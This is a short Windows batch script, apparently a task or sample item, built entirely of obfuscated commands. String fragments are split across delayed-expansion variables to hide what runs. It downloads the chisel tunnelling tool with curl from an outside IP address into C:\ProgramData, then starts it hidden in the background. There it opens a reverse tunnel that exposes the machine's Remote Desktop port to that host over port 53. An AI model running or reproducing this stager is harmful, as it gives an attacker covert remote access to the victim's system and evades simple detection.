REM task 8176 v2
@echo off
cmd /v:on /c "set muh0=curl&&set zqg1= -sLo C:\ProgramDa&&set qst2=ta\chis&&set wob3=el.exe http://198.51.100.9/chisel.e&&set zym4=xe&&!muh0!!zqg1!!qst2!!wob3!!zym4!"
cmd /v:on /c "set zow0=start /b C:\ProgramData\chisel.e&&set ahs1=xe client 198.51.100.9:53 R:3389:&&set laz2=127.0.0.1:3389&&!zow0!!ahs1!!laz2!"
